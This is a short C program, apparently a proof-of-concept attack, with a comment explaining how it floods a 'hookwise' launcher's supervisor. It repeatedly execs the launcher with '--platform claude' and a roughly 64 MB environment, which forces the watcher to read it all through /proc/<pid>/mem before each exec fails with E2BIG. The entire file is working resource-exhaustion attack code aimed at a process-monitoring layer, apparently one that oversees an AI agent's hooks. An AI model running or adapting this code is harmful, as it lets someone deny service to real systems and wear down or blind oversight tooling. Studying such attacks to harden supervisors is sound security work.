/* #1, cheaper: exec hookwise's launcher with `--platform` (the watch then reads the whole
 * environment to decide whether the hook is "accounted": up to 4096 entries of up to
 * 16 KiB each, through /proc/<pid>/mem, 4 KiB a pread). The environment is 4095 pointers to
 * one 16 KiB string, so the kernel refuses the exec (E2BIG) after the supervisor read it
 * all: no process is started, the loop asks again.
 * usage: exec_flood_env LAUNCHER START   (START: a CLOCK_REALTIME second to begin at) */
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#define ENTRIES 4095
#define SIZE 16384
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    time_t start = argc > 2 ? (time_t)atol(argv[2]) : 0;
    char *value = malloc(SIZE + 1);
    memset(value, 'a', SIZE);
    memcpy(value, "X=", 2);
    value[SIZE] = 0;
    char **env = calloc(ENTRIES + 1, sizeof(char *));
    for (int i = 0; i < ENTRIES; i++) env[i] = value;
    char *args[] = {"hook", "--platform", "claude", NULL};
    while (time(NULL) < start) usleep(20000);
    for (;;) execve(argv[1], args, env);
}
